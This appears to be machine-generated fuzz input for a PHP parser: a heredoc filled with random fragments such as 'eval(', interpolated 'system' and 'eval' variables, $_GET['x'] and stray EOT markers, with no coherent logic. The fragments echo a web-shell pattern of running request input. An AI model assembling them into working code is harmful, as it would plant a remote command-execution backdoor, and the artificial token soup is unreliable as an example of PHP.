<?php
$a = 'system'; $b = 'eval'; $c = array(1, 2);
$h = <<<EOT
' \n
?> <<< \n  EOT \$d \n eval( ${b}
\n EOT  EOT {$a} \x41 ?>
EOT ${b} EOTX
{$a} \n \$d ' {$a}
" ?> EOT \$d ${b} ?> \x41 <<<  EOT eval(
\n
EOT \x41 EOT $c[1] ?>  EOT \n $_GET['x'] ${b} \$d <<<
\n " \$d  EOT ${b} \n <<<
<<< ?> eval( \n " eval( \\ \x41 ${b}
eval( \n ?>  EOT \$d \\
?> \\ <<< eval( \x41 '  EOT
${b} EOTX eval( \$d {$a} eval( ?>  EOT
EOT ' $c[1] $_GET['x'] {$a} ?> " \x41
${b}
' ${b}
' EOTX EOTX EOTX
\x41 \x41 eval( $_GET['x'] " $c[1] " \$d EOTX
$_GET['x']  EOT  EOT \$d " ${b} $c[1] <<< \x41
EOT  EOT $c[1] EOTX  EOT {$a} \x41
\\ EOTX $c[1] {$a} <<< $c[1] \\ $c[1]
eval( EOT EOT
EOTX ' \\  EOT
\\
\n \\ eval( \$d
EOT eval( ${b} EOT EOTX
EOTX \n EOT \$d " ' ?> '
 EOT  EOT ${b} \x41 EOT \$d \\ <<< ${b}  EOT \$d
\n <<< $_GET['x'] ' eval( <<< " \\ eval( $_GET['x'] {$a} "
EOT EOT \$d EOT ${b}
 EOT \\ {$a} EOT '  EOT $c[1] \\
\x41
{$a}  EOT " ?>
$_GET['x'] $c[1] ' \x41 " \n " $c[1]  EOT {$a} {$a} "
\\ EOT $_GET['x'] \n <<< \\ <<< \n eval(  EOT <<<
' EOTX EOT  EOT " ' ?> EOT ?>
\\ $_GET['x'] \n {$a}  EOT eval( EOT \n eval( " \\ ?>
\$d EOT \x41 " ${b} \$d <<<  EOT EOT \\ '
EOTX eval( <<< EOTX $c[1] $_GET['x'] $_GET['x'] eval( $c[1] $c[1] ?>
 EOT {$a} {$a} eval( ?> ${b} \$d  EOT
\\ eval( EOT EOTX EOTX
$c[1] EOT \\ \n $c[1] \n <<< eval( \x41 \$d
<<< <<< <<< " {$a}
" \x41 ${b} \x41 ' \x41 \x41 $c[1]  EOT  EOT
" ?> EOTX \n <<<  EOT {$a} ' <<< \$d EOT
?>
 EOT "
\n \$d \\ \\
?> eval( eval( ${b} eval( eval( EOTX eval( EOT \\ ?>
" ' $c[1] {$a} <<< $_GET['x']
 EOT \$d
 EOT ${b} $c[1]  EOT <<< \n
${b} ${b} eval(  EOT ${b} EOT
{$a}  EOT <<< eval( ' $_GET['x']
$c[1] ' EOT \$d ' \$d ?> $c[1] \\ eval(
" \x41 eval( \\ \$d $c[1]
EOTX  EOT \n
\\ EOTX \n $c[1] " ${b} {$a} EOTX ${b} \$d
${b} <<< EOTX EOTX {$a} EOT \x41 " '
{$a}  EOT $_GET['x'] \$d ?> \n \n
' EOTX EOT {$a} \n " ?> $c[1] $_GET['x'] \x41 " "
EOT EOT
<<< EOTX \x41 EOT $_GET['x']
eval( \x41  EOT <<< $_GET['x'] eval( eval( EOT $c[1] <<<
"
$c[1] EOTX \x41 ${b} ${b} EOTX EOT $_GET['x'] ' EOTX ${b} ${b}
\$d \n $c[1] $_GET['x'] ' EOTX EOT EOTX <<< \x41 $_GET['x'] ?>
 EOT \\ " \n ${b} EOT \x41 ' {$a}
\$d $_GET['x']
 EOT \x41 {$a}
?>
${b} eval( eval( eval( " \x41 ${b} \x41 $c[1] {$a} {$a}
eval( eval( EOT ${b} EOTX \n \\
<<< EOTX \$d \\ ?> {$a}
eval( $c[1]
" \$d \x41 \n  EOT \\  EOT ' {$a} EOTX \x41
EOT eval( EOTX \\ $_GET['x'] {$a}
EOTX <<< EOTX  EOT {$a} " ' \x41
\\ \n \x41 \n EOTX
$c[1] \\ eval( eval( \\ EOTX  EOT eval( ${b} \n eval(
?> ' \n \$d \n ' EOTX
$c[1] eval( ${b}  EOT \\ EOTX " {$a} \x41
EOTX $c[1] {$a} ${b} ?> ${b} $_GET['x'] ${b} eval( \\
eval( ' EOTX \x41 <<< EOTX  EOT EOT \x41 {$a} \n ?>
 EOT $c[1] EOT $_GET['x']  EOT \x41 \\ \x41 \x41  EOT
\x41 eval( {$a}  EOT
${b} \x41 ?> \\ ?> eval( $_GET['x']
\x41 EOTX $_GET['x'] " \x41
\\ \x41 <<< \\ eval( EOT '  EOT \x41 $_GET['x'] ?>
${b} EOTX eval( $c[1]
\x41 $_GET['x'] \n EOTX $_GET['x'] eval( $c[1] \\ \n eval( ?> "
EOTX $_GET['x']  EOT EOT {$a} ${b} \n ${b} ${b} \x41 ?>
\\
<<< ?> {$a} eval( $_GET['x']
\x41 $_GET['x']  EOT eval(
 EOT EOT EOT EOT EOTX eval( \$d ?> $_GET['x'] <<<
\x41 \n \\ ${b} ' EOTX EOTX $_GET['x'] EOT <<<
?> ?> " $c[1] ?> EOTX $c[1] $c[1] \$d
EOTX \n EOT $_GET['x'] \\ eval( " \x41 \x41 ?> ${b}
\x41 ${b}
${b} {$a} " ?> $_GET['x'] <<< ${b} ?> \x41 \$d  EOT
{$a} ' \n
\\ $_GET['x'] \$d EOTX \n
' EOT ' $_GET['x']  EOT ?>  EOT \\ " '
<<< \x41 \x41 $_GET['x'] " \$d <<< " <<< $_GET['x'] ?>
\x41 \$d <<< $_GET['x'] ?> \x41 ?>  EOT EOTX EOT <<<
$_GET['x']  EOT \n eval( EOT ${b} $c[1] \n
\n $c[1]
\\ \x41 \$d eval( {$a} \n \x41 $c[1]
<<< $c[1] \$d
\x41 <<<
EOT eval( " $_GET['x'] $c[1] {$a} <<< $c[1]  EOT $_GET['x'] ${b}
EOTX \$d eval( <<< eval( ?> \n ' $c[1] \$d  EOT '
\x41 <<< \$d EOT EOT \\ {$a} \n
${b} ' {$a} ' EOTX "  EOT " ' EOT
$c[1] $c[1] ' $c[1] eval( ${b} \$d <<< {$a} $c[1] {$a}
$_GET['x'] <<< eval( eval( <<< '
?> ?> {$a} EOT " EOT $_GET['x']
$c[1] \\ EOT \n EOTX $_GET['x'] $c[1] <<<
" {$a} EOT ?> \$d ' $_GET['x']
$c[1] EOT " EOTX  EOT $_GET['x'] EOT {$a} \$d  EOT EOTX
EOTX $c[1] EOTX EOT eval( eval( EOTX EOTX " $c[1] $c[1]
\x41 \n \x41 \$d \n EOTX
EOT EOTX \x41
eval(
EOTX \n ${b} eval( $_GET['x']  EOT ' $_GET['x'] {$a} \x41 EOTX \x41
EOTX $c[1] \n \n EOTX \$d ?>
{$a} $_GET['x'] {$a} ' $_GET['x'] ${b} <<< $c[1] EOTX EOTX " \n
\n EOT $_GET['x'] $_GET['x'] ?> $c[1] eval(
eval( $c[1] \x41  EOT $_GET['x'] EOTX \x41 ?> EOT EOTX EOT $_GET['x']
$_GET['x'] ' eval( \$d
\$d $c[1] \\ \\ EOT $c[1] " $_GET['x']  EOT
{$a} ' ' {$a} \$d \n $_GET['x'] \\
$_GET['x'] $_GET['x'] ?>
' \n ${b} " <<< " \x41  EOT ${b}
$_GET['x'] $_GET['x'] eval(
{$a}  EOT EOTX $_GET['x'] '
EOT
${b}  EOT
 EOT \n  EOT ' ${b} {$a}
 EOT "
\$d <<< \$d eval( \x41 \$d \x41 \x41 " \\ \\ \x41
EOT ?> \$d ' \\ \\  EOT \\ eval( ${b} {$a}
${b} \\ ' ${b} ' '
{$a} ?> <<< " <<< <<<
$_GET['x'] ${b} eval( $c[1] \n \$d eval( \x41 \x41 eval(
EOTX
$_GET['x'] \n $_GET['x'] {$a} <<< eval( \x41
$_GET['x'] \x41 <<< ' ${b} \$d ' EOTX \$d " EOTX "
\x41 EOTX EOTX \\ ?> <<< EOT EOTX {$a} \\ ?>
${b}  EOT '  EOT " EOTX {$a} \$d \n {$a} \x41
EOT "
\x41 {$a} <<<
$c[1] <<< " $_GET['x']
\$d ' \n \x41 ?> " ${b} ${b} eval( EOTX
' ${b} ${b} ?> $_GET['x'] \x41 EOT ${b} \x41  EOT
<<<  EOT <<< $c[1] \n eval( \x41
EOT ' " \n ?> EOT EOTX ${b} ${b} \$d
$c[1] {$a} EOTX \x41 EOTX <<<  EOT
\$d " \\ EOTX {$a} {$a} ?> <<<
 EOT $_GET['x']
$_GET['x'] " ?> \x41 ${b} eval( $_GET['x'] \\ ${b}  EOT \$d
" EOTX eval( \$d '
${b} \$d ' $c[1] {$a} eval(
EOTX EOT $c[1]
\x41 $_GET['x'] EOTX $_GET['x']  EOT EOTX
eval( eval( ' ${b}
\n \x41 EOT EOT eval( \n
<<< \x41 \x41  EOT  EOT \n \$d EOT
\$d {$a}
EOTX $_GET['x'] EOTX ${b} EOTX $_GET['x'] ${b} {$a} '
\x41
eval(  EOT eval( {$a} eval(
$_GET['x'] $_GET['x'] eval( EOT
$_GET['x'] ?>
?> EOTX
EOT ${b} \\
?> eval(  EOT
\$d ${b} eval(  EOT $c[1] {$a} ' \\ $c[1] {$a}
$c[1] EOT EOT {$a} ${b} \n \n " ${b} \\
EOTX \x41 EOT ${b}
EOTX \n {$a} " " eval( <<< $c[1]
eval( eval( EOTX eval( ?> ?> \\ <<< {$a} ' \$d
\n eval(
\$d " {$a} ' \n $c[1] " eval( $_GET['x'] <<<
\x41 {$a} \x41 EOT {$a}
<<<  EOT ?> $c[1] eval( ${b} eval( <<<
\$d <<< {$a}
EOTX ${b} \x41 {$a} EOT \$d {$a} EOT EOT <<< <<<
\$d
\\ EOT ?> " \$d ${b} \n ' ?> {$a} EOTX
?> $c[1] ' ?> '
$c[1] ' $_GET['x'] EOT \n
 EOT \x41 $_GET['x'] \n "  EOT  EOT $c[1] " \x41 eval( ${b}
<<< EOT ?> ?> {$a} \$d \x41 eval( <<< EOTX <<<
EOTX ?> <<< <<< \x41 EOTX ?> $_GET['x'] <<< {$a} eval( \\
" EOT \$d EOT ${b} \$d '
$c[1] eval( \x41 ' eval( \n
\$d {$a} \\ EOT ?> EOTX $_GET['x'] " $_GET['x'] \n " ${b}
eval( \\ \$d eval( ${b} $c[1]
\\
{$a} \x41  EOT EOT $_GET['x']
$_GET['x'] \n $_GET['x']
\x41 ?> $c[1] EOTX ' EOTX eval( \x41 <<<
<<< \x41
 EOT \n ${b} \$d  EOT
\$d
\\ ?> EOT {$a}  EOT
" ?> \\ \x41 $_GET['x']
$_GET['x'] " \x41 {$a} \n ${b} \\ ?> ' ${b} \\ ${b}
' \n \\ $c[1] \$d '
${b} \$d \n EOT eval( <<< EOT <<< <<<
EOT EOT ${b} " \n \n
{$a} \$d " \$d \x41 EOT ?> $c[1] EOT  EOT \n \n
\$d " \n \n \n \x41 EOTX '
eval( ' \\ $c[1]  EOT ?> \n \\ ?>
${b} {$a}
{$a}  EOT EOTX {$a} $c[1]  EOT EOTX
${b} eval( <<< \n EOTX \n \x41 ?>  EOT EOT
$_GET['x'] EOT \$d \$d {$a}
\$d ?> \n <<< \\ \n
 EOT
eval( \x41 $_GET['x'] \n EOT ' {$a} <<<
' ' $c[1] eval( \x41 ' ' eval( {$a}
\\ \x41 \n $_GET['x'] \\ {$a} EOT \$d $c[1] $c[1]
<<< $_GET['x'] \\ EOT $_GET['x'] $_GET['x'] ?>
{$a} $_GET['x'] $_GET['x'] $c[1] $c[1] \x41 $c[1] ${b} <<<
EOTX ?> \x41 {$a} {$a} \n "
${b} {$a}
EOT $c[1] {$a} EOTX EOT \x41 ${b} \x41 \\ $c[1] '
" ' EOTX
EOT <<< " EOTX EOT EOT {$a} \$d "
\x41 ${b} ' \n " <<<
\n  EOT $c[1]  EOT  EOT \n \\ \\ <<< '
$c[1] \n {$a}  EOT eval( \\ $c[1] EOT \\ EOTX "
'  EOT EOT ' \n
' EOTX <<< \\ \n ${b} {$a}  EOT $_GET['x'] \\
\n  EOT <<< "  EOT {$a} \x41
$c[1] \x41
" eval(
${b} $_GET['x'] \n
\$d ' \n
EOT $_GET['x']  EOT <<< EOTX
$_GET['x'] " <<< ?>
" EOT EOT $_GET['x'] EOTX ${b} \$d  EOT \x41 EOTX
\\ EOTX
$c[1] \\ \$d
$c[1]
{$a} " ${b} $_GET['x']  EOT ?>  EOT ${b} $c[1] " {$a}
?> $_GET['x'] EOT \n $c[1] $_GET['x']
$_GET['x'] " <<< ?> \\
\$d  EOT $_GET['x'] ' ${b}
' \\ eval( " \n $c[1] $_GET['x'] <<< \\ \x41
\$d EOTX ${b} EOTX eval(
$_GET['x'] \x41 EOT {$a} EOTX <<<
' \\ $c[1] ${b} ?> \x41 $c[1] <<< ${b} \$d \\ \n
\x41 \n \$d $_GET['x'] ?> \\ EOT EOTX
$_GET['x'] \\
 EOT
\$d ?>
${b} EOTX \\ " EOT \$d ?> ${b} eval( $_GET['x'] $c[1]
\$d EOT
?> eval(  EOT ${b} <<< ${b} \x41 $_GET['x']
\\ EOT ${b} \$d EOT ' \$d \n EOT EOTX $_GET['x'] $c[1]
$c[1] " $_GET['x'] EOTX ?>
${b}
\\
{$a} {$a} ${b} \\ '
?>
$_GET['x'] " \$d $c[1] eval( ?>
\n ' eval( " " EOT ${b} ${b} \n \\
eval( \\ EOTX EOT $_GET['x'] ${b} \n \\  EOT $c[1]
\n
$c[1] eval( ${b} ' <<< \\
\$d $c[1] \x41 {$a} " ' \n  EOT $c[1]
\n eval( \x41  EOT \\ \x41 \n
eval( \n \n  EOT ' {$a} EOTX \x41 {$a} EOTX
${b} ?> {$a} '  EOT
${b} \$d $c[1] \$d eval(
EOTX " ?> EOTX \n \\  EOT  EOT EOTX EOTX
' ${b} EOT \\ " \n  EOT
?> " \n $_GET['x']  EOT eval(
\\ {$a} \x41 $c[1] \$d EOTX ?> \\ <<<
" \n $_GET['x'] ' \$d <<< {$a} <<< " \$d
\\ " \$d  EOT \\ {$a} ${b} ?>
<<< " ?>
eval( \n EOT \\ <<< ' \\ $_GET['x'] \$d
EOT ' ' <<< \x41 \\
$c[1] \$d
$_GET['x'] \\ $c[1] \n \$d ?>
' ?> \\ " \x41 EOTX EOT
\\ eval(  EOT $_GET['x'] ${b}
$_GET['x'] EOTX EOT '
$c[1] {$a} EOT $_GET['x'] {$a} \x41  EOT \x41
\n
EOT \\  EOT <<< \x41 \\ {$a} {$a} $c[1] " EOTX $c[1]
\x41
' {$a} $c[1] \\ {$a} $c[1]
\$d ' \\
<<< " ?> \\
$c[1] \$d
 EOT \\ \$d EOT " \x41 "
EOT
{$a} eval( eval(  EOT
' $_GET['x'] '  EOT eval( \\ EOTX EOTX <<<  EOT \x41
EOTX  EOT
eval( \x41 EOTX EOT eval( \n \\
' ' ${b} EOTX <<< eval( ?> \x41 eval(
" \\  EOT \$d  EOT EOT \\
' eval(  EOT \$d eval( <<< \x41 ${b} \\
$_GET['x'] ' $_GET['x'] \$d $_GET['x'] ?> ${b} \x41 \x41  EOT
 EOT ?> '  EOT
$c[1] ' $_GET['x'] ?> $c[1] " ' ?> ${b} ' eval(
" \x41 \n EOT \x41 ?>
\$d \$d \n \$d \\
<<< $_GET['x']  EOT $c[1] \n \x41 \x41 \$d eval( \x41 EOTX eval(
EOT eval(
EOTX {$a} \$d \\
EOT EOTX EOTX EOTX \x41
?> ' EOT ${b} \n '
\\ \n \\ {$a} $_GET['x'] {$a} EOT \\
{$a} $_GET['x'] <<< eval(
"  EOT \$d \x41 ' '
?> EOT \n $c[1] $_GET['x'] ' \x41
\$d " ' ${b} $_GET['x']
?> ?> \x41 $c[1] EOT $c[1] \x41 ?> \x41
<<< {$a} {$a} <<<
 EOT \n \x41 {$a} $_GET['x'] EOTX ' \\
\n "
" $_GET['x'] \\ ?>
\\  EOT  EOT EOTX  EOT $c[1] \n " EOTX EOTX ${b} '
' \n '
EOTX eval( eval( $c[1] ?> <<< EOTX EOT $_GET['x']
${b} ' $_GET['x'] ${b} ' EOT
EOTX \$d \x41 ?>
eval( {$a} \$d \x41 EOT \n
\$d <<< \x41 ' \x41 \$d EOT
eval( ' <<< ${b} EOTX \x41 \x41  EOT eval( ?> \x41
" \$d eval(
" EOT EOTX \$d \n  EOT \n
\n \x41 " " EOTX $_GET['x']
<<< '  EOT {$a} ${b} {$a} ${b} eval( ${b} $c[1]
\x41 \n eval( $_GET['x'] $_GET['x'] $c[1] ?> ${b} EOTX  EOT ${b}  EOT
" <<< ' \n ?> {$a} ' ${b} ?> ${b} \$d $_GET['x']
 EOT ${b} ' eval( $_GET['x'] " ?> ?> \$d $c[1] EOT
EOT \$d " \n $_GET['x'] ?> ${b} eval( \x41
$c[1]  EOT $_GET['x'] $c[1] $c[1] " " \x41 ' EOT  EOT
\n ' \n \$d $_GET['x'] <<< ${b} \\ $_GET['x']
<<< ${b} <<< {$a} \x41 \n EOTX <<< \\ EOT \\ EOTX
EOT
EOTX ${b} ?> EOTX $c[1] \x41 eval( \x41 ' <<< ?>
' {$a} $_GET['x'] EOTX {$a} $_GET['x']
'
 EOT eval( EOT " $_GET['x'] $c[1] EOT EOTX
${b} \x41 " EOTX ${b} ?> \\ \x41 ?> ?>
$_GET['x'] eval(  EOT \$d ?>
 EOT ${b} \$d ${b} {$a}
$_GET['x'] $c[1] EOT <<< ${b} EOT ${b} " \n ?>
\$d \\ \\
 EOT \\ <<< EOT \\ EOT eval( eval( \$d ${b} '
eval( ' $_GET['x'] \$d \n EOT  EOT ${b} EOT $_GET['x'] EOT
\\ " $_GET['x'] $_GET['x'] EOTX EOTX \n \\
' {$a} <<< \n $_GET['x'] $_GET['x']
$_GET['x']
\n EOT \x41 "
${b} <<< \$d
{$a} eval( EOT \\ \n $_GET['x'] EOT {$a} $c[1] eval(
EOT ' \n {$a} \$d
\$d \x41 \x41
<<< $c[1]  EOT  EOT EOTX  EOT \$d
EOT ${b} \$d EOT "
 EOT ' ${b} EOTX \n \n " \$d \x41 ${b} {$a}
" \n "
<<< {$a} $_GET['x']
EOTX $c[1] EOT ' ${b} \$d \\ EOT $c[1] eval( ${b} <<<
${b} " ${b} ' {$a}  EOT eval( <<< ${b} ?>
?> \n ${b} EOTX \\ EOT
' EOT ' eval( EOT $_GET['x'] \x41 {$a} \x41 ?> $c[1]
"
<<< $_GET['x'] ?>
${b} $c[1] $c[1] EOT eval(
<<<  EOT '  EOT $_GET['x'] {$a} \$d \$d \x41 $c[1] "
\$d ${b} " " <<< ' ' ?> EOTX eval(
EOTX EOTX
\x41 eval( \$d EOT {$a} ${b} \$d $c[1] EOTX \$d $c[1]
EOTX eval(
$_GET['x'] ${b} EOT $c[1] \x41 eval(
$_GET['x']
{$a} ' ?> \x41 \x41 EOT ${b} <<< \$d $c[1] $c[1]
?> {$a} {$a} ${b} $c[1] \x41 <<< $_GET['x'] eval(  EOT <<<
eval( \n \n \n \$d \\ $c[1] eval( {$a}  EOT \n \x41
$_GET['x'] $_GET['x'] $c[1]  EOT eval( eval( \$d
" $_GET['x'] \n EOT $_GET['x'] EOTX \x41
EOT \\ {$a} eval( EOT eval( \$d
" EOT ${b} \\ {$a} {$a} eval( \x41 EOT eval(  EOT eval(
?> \n eval(
$c[1] eval( " ?> ' ?> ' " <<< \x41 eval(
\\  EOT  EOT  EOT ' ${b} $c[1] \n $c[1]
eval( eval(
" \n EOTX \\ {$a} $c[1] $_GET['x'] {$a}  EOT EOTX \\ ${b}
$c[1] $_GET['x'] ' \n eval( $c[1] \$d eval( $c[1] EOTX eval(
${b} {$a} EOTX <<<
\$d ' EOT eval( eval( \\ \$d $_GET['x'] $c[1] "  EOT EOTX
EOT
eval( ?>
{$a} EOTX ?> $_GET['x'] \$d $c[1] ${b} eval( $c[1] \x41
{$a} EOT eval( \$d EOTX  EOT $c[1] ${b} $c[1]  EOT {$a} EOT
eval(
eval( eval( <<< {$a} ${b}
\\ {$a} ${b}
$c[1] \n {$a} EOT {$a} eval( EOTX EOT
\\ $c[1]
\x41 \\ ?> ' \x41
$c[1] $_GET['x'] ?> \$d \n ' \\ eval(
\x41 EOT  EOT <<< {$a} EOT \\ \x41
${b} $_GET['x']  EOT \x41 <<< $c[1] \n ' <<< \x41 "
$c[1] EOT EOTX \x41 $c[1] EOTX
\$d $_GET['x'] \x41 ?>  EOT {$a} \x41 eval( \\
\\ EOT {$a} <<< EOT \x41 ?> \\
\\ ?> $c[1] \n \$d
${b} EOT \\
$_GET['x'] <<< '  EOT eval( ${b}
 EOT \x41 \\ \$d \$d $_GET['x'] EOTX "
 EOT \n \x41 \\ EOT <<<  EOT eval( '
\n " \$d ${b} EOT
\\ $_GET['x'] \n \\ ?> $_GET['x'] $_GET['x'] \n ${b} $_GET['x'] $c[1] \n
 EOT '
 EOT  EOT \n {$a} $_GET['x'] EOTX \x41 {$a} \n
\\ \x41 ' {$a}
<<< eval( <<< \n $c[1] ${b} " \$d \$d $c[1]
 EOT <<< <<< \n $_GET['x']
 EOT {$a} EOT \$d \n ?> $c[1] $c[1]  EOT eval( " ${b}
\x41 " EOT EOT ' <<< {$a} ?> $_GET['x'] " <<< EOTX
EOTX \x41 eval( \$d {$a} ${b} $_GET['x'] ${b} \$d ' EOTX $_GET['x']
' \\ ' ?>
EOTX ?> {$a} \\  EOT EOTX \n \\ "
{$a} ?> ${b} \\ \x41 {$a} ?>
EOTX eval(
?> \x41 \\ {$a} \x41 ${b}
\\ " \n  EOT $_GET['x'] \\ {$a} \$d \n $_GET['x']  EOT
$_GET['x'] EOT $_GET['x'] \n $c[1]  EOT $_GET['x']
\n ?> EOTX
$_GET['x'] eval( \x41
\x41 EOT ' {$a} " EOT ${b} \\ \x41 \x41 " EOTX
?>  EOT EOT \n ' EOTX
\x41 ${b} ' <<< <<<
EOT EOTX ${b} ${b} EOT
'
"
\$d $c[1] $c[1] ?> <<<
\$d $c[1] EOTX " " EOT  EOT ' " ?>  EOT
EOT " \x41 \$d ${b} eval(  EOT ${b}
\\ $_GET['x']
EOT EOTX ${b} ?> " <<<
eval( \$d '
<<<
EOTX {$a} \x41 \$d \$d <<< ${b} ?> ${b}  EOT \x41
?> EOTX $_GET['x']
" ?> $_GET['x'] ${b} \$d "
$_GET['x'] '  EOT EOT \\ \$d
${b} <<<
$c[1] EOTX " $_GET['x'] ?> \x41 " eval( EOT ${b}
$_GET['x'] \$d ' EOTX ' $c[1]
EOTX eval( \x41 ${b}  EOT \n $_GET['x'] $_GET['x'] \\ '
\n \\ ?> EOTX $c[1] EOTX ' $_GET['x'] eval( \x41 \n \x41
EOTX  EOT \$d ${b} {$a} \n EOTX \n  EOT \n
 EOT \\ \x41 \$d
eval( EOTX <<< \x41
?> <<< ' \\ \\ <<< <<< <<<
<<<  EOT \\ ${b} ${b} {$a} eval( \x41 eval( '
\$d  EOT \n \$d <<< ${b} \\ " \x41 EOTX EOT
' " eval( "  EOT $_GET['x'] \n \\ EOTX ?> \$d
' {$a} eval( eval( \\ \x41 {$a}
\n \$d ?> ' ${b} <<< $c[1]  EOT
" {$a} eval( \\ {$a}
EOTX EOTX eval( \\
$c[1] $_GET['x'] \x41 EOT \\ \x41 " EOTX \x41 \n
eval(
\\ \n $_GET['x'] \\
eval( ${b} <<< EOT {$a} " EOT \n EOT ${b}
\x41 EOTX ' ?> {$a} ${b} ${b} <<< <<< <<<
$c[1] \n " $_GET['x'] ${b} <<< <<< ${b} EOTX \$d
EOT EOT eval( " \\ \n EOTX \n EOT EOT
\\  EOT "  EOT \$d $_GET['x'] {$a} $c[1] <<< ${b}
${b}
eval( \n ${b} $c[1]  EOT $_GET['x'] \$d "
eval( $_GET['x']
\n
<<< " EOTX $c[1] {$a} $_GET['x'] EOTX \n \\ $_GET['x']
eval( \\ eval( $_GET['x'] ${b} {$a} ${b}  EOT \x41 " EOT
${b} " $c[1]
?> \\
\\ \n ' {$a} \x41 \\
\\ <<< ?> " EOT
?> " "
eval( \n '  EOT EOTX ?> \\
?> eval( \n ' $_GET['x'] {$a}
{$a} eval( \x41 EOT EOTX
' EOTX ' <<< \n \n ?> $_GET['x'] <<< ?>  EOT ${b}
\$d ?> {$a} ' <<< $c[1] eval( ${b} <<< ' EOTX
?> \\ EOTX " ?> EOTX
" \\ $c[1] \n $c[1] {$a} $c[1] \$d '
' " ${b} \\ \$d ' \x41
{$a} $_GET['x'] ?>  EOT <<<
$_GET['x'] ${b} " EOT  EOT $c[1] $c[1] $c[1] \$d
\\ \$d \x41
\n
<<< \n ${b} $_GET['x'] \\ $c[1] \n \x41 EOTX EOT
\x41  EOT <<< {$a} ?> ?> ?> \\
"  EOT " $c[1]  EOT EOT ' $c[1]  EOT \\ '
\$d $_GET['x'] ${b}
$_GET['x'] EOTX $c[1] \x41 \x41 \x41 ?> $c[1]
\\ <<< EOTX <<< \\ $c[1] $c[1] \x41  EOT
$_GET['x'] $_GET['x'] $_GET['x'] \x41 <<< <<< $_GET['x'] '
EOTX \\ \$d \\  EOT <<< ' $c[1] \\ ${b} ?> \\
$c[1] $_GET['x'] \n
{$a} EOT  EOT  EOT  EOT " ' {$a} \n \n
$_GET['x']  EOT ${b} " eval( eval(  EOT \x41 ?> ?> {$a} EOTX
$_GET['x']
?> <<<
EOT \\ ?> \x41  EOT {$a}
' $_GET['x'] \x41 \x41 \$d eval(
' <<< \x41 EOTX EOTX \\ $c[1] ${b} $_GET['x'] \\ <<<
\n EOT
<<< \$d \x41 {$a}
" " \n \\ <<<  EOT  EOT ${b} \n eval( \x41
$c[1]  EOT \n ?> $_GET['x']
${b} $c[1] \n
EOT {$a} \n \x41 $_GET['x'] EOT "
$_GET['x']
"
<<< EOT {$a}  EOT \n ?>  EOT {$a} $_GET['x']
$c[1]  EOT  EOT EOTX ' \n  EOT ${b} $c[1]
\\ eval( ' \$d
?> \n \\ {$a} \n EOT EOT eval(
{$a} $_GET['x'] EOTX EOT
\\ eval( ${b} \$d <<<
\$d
\\ eval( ${b} $c[1] $_GET['x'] eval( ' {$a} \$d EOTX ${b} <<<
$c[1]  EOT
$c[1] EOTX \\ "
\$d \$d ' {$a} \n ${b} eval( $_GET['x'] $_GET['x'] '
$_GET['x']
$c[1] \n \\ ' ${b} EOTX "  EOT
\$d \\ ?> EOTX ${b} {$a}
eval( \x41
EOTX " \n {$a} ?> $c[1] ${b}
 EOT $c[1] \$d \x41 \x41
" \n eval(  EOT EOT $_GET['x']
<<< {$a} ${b} EOTX \n $_GET['x'] " eval( {$a}
\x41 eval(
${b} {$a} eval( $_GET['x'] ?> ?> \n ' ' EOT \\ $c[1]
<<< \$d ' <<<  EOT $_GET['x'] EOT
\$d EOTX <<< \$d \x41 \\ eval( $c[1] \\
\x41 " ?>  EOT \x41 {$a} " \\ {$a} \x41 ?>
\n eval( ${b}  EOT "
\$d eval( \x41 eval(
eval( <<< EOTX ' eval( ' \n ${b} $c[1] ?>
\\ " ${b} ?> \x41
$_GET['x'] \$d \$d ?> EOT  EOT \n
EOTX EOTX {$a} ${b} <<<
{$a} $c[1] '  EOT $c[1] "  EOT eval( $_GET['x'] EOT '
" {$a} EOT \n eval( <<<
${b} EOT \x41 " $_GET['x'] ?>
" $c[1] $c[1] eval( \\ "  EOT ${b}
EOTX " \x41 $_GET['x'] EOTX ?> \x41 \x41 $_GET['x'] {$a} ' \\
\n \\ $c[1] \$d \\ ?>
${b} ${b} \\ eval(  EOT ${b} <<<  EOT <<< {$a} EOT
{$a} \$d eval( " ?> ?> EOTX
${b} \\ EOT \\ ' eval(
EOT \x41 $c[1] \x41 eval( eval( " $_GET['x']  EOT "
 EOT <<< EOTX \$d eval( " " $c[1]
$_GET['x'] $c[1] $_GET['x'] <<< {$a} {$a} ?> \$d \n
<<<
\$d \$d EOT EOT
" \n $_GET['x'] {$a} \n \x41 ${b} $c[1] \\
 EOT EOTX {$a} EOT \x41  EOT  EOT $_GET['x'] \\ \x41 \$d ?>
\n \\ eval( EOT \$d
$c[1]  EOT
\x41 ${b} \n EOTX \x41 ' \x41 ?> $_GET['x']
 EOT \\ ?> ' ${b} \n ' ${b} EOT ?>
?> <<< $_GET['x'] \$d \\ ' \\ ${b} ' {$a}
?>
\$d ' \x41 \n " \n
<<< <<< ${b} \n $c[1]  EOT ${b} ' ' EOT EOT
\n \x41 \\ \\ \\ ' "  EOT \\ <<<
$c[1] $_GET['x']  EOT \x41 ?> "
eval( $c[1] EOTX eval( \$d
<<< ${b} eval( $_GET['x'] ' ${b} EOT ' EOTX EOTX \x41 \n
eval( $c[1] eval( $c[1] \x41  EOT \\ \n \n eval( \$d
EOTX EOTX  EOT EOTX ?> EOTX EOT '
{$a} $_GET['x'] eval( \n " eval(
EOTX \\ ${b} ' ?> ${b} eval( <<<
<<< ?> EOT ${b} <<< \n '
\$d EOT
<<<
<<< \n " $c[1] EOT
{$a} \\ {$a} ?> <<< \n $c[1]  EOT \\ '
$_GET['x'] eval( \x41 \\ $_GET['x'] $_GET['x']
$c[1] ${b} EOTX
EOT "  EOT <<< \\ EOT
' EOT EOTX ?> \x41 ?> \\ $_GET['x'] $_GET['x'] \$d ?>
' $c[1] <<< EOTX '
EOTX \$d \$d EOT ?> " EOTX $c[1] ?>
<<< {$a} ${b} $c[1] $c[1] \n
EOTX ?> ' ${b} \x41  EOT \x41 "
$c[1] ' ?> \\ {$a} " EOTX EOTX ?> ?>
" eval( {$a} <<<  EOT <<<
{$a} " {$a}  EOT $_GET['x']
?>
{$a}  EOT <<< <<< ' eval( ' EOTX {$a}
EOTX ?> \n $c[1] <<< EOTX \n EOT \n
<<< $_GET['x'] eval( ?> \x41 EOT EOTX \$d ?> EOTX {$a} EOTX
\$d <<< ' ?> \$d
 EOT $_GET['x'] ${b} EOTX
\n  EOT eval( $c[1] eval( "
eval( $_GET['x'] \x41 EOT ?> {$a} ' " <<<
$c[1] \x41 EOTX \x41 EOTX eval( \x41
eval( \x41 ' {$a} \n  EOT $c[1]
${b} eval( ${b} <<< ?> $c[1] $c[1] \\ $c[1] <<< \x41
